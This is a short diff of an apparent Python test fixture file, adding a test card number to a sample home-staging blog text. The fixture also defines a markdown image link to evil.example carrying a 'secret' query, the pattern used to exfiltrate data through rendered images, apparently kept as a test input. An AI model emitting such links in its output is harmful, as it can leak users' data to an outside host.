@@ -13,7 +13,8 @@ EVIL = "![x](http://evil.example/?q=secret)"
 MOMENT = "2026-11-22T10:00:00+00:00"
 BLOG = (
     "# Staging a home\n\nThis is your dream home, and staging it costs little.\n\n"
-    "## Clear first\n\n- Put away photographs\n- Empty the wardrobe\n\nSales rise by 37%.\n"
+    "## Clear first\n\n- Put away photographs\n- Empty the wardrobe\n\nSales rise by 37%.\n\n"
+    "Pay with 4111 1111 1111 1111.\n"
 )
 POST = (
     "Most sellers start with paint.\nStart with the wardrobe.\n\nBuyers pay for space."
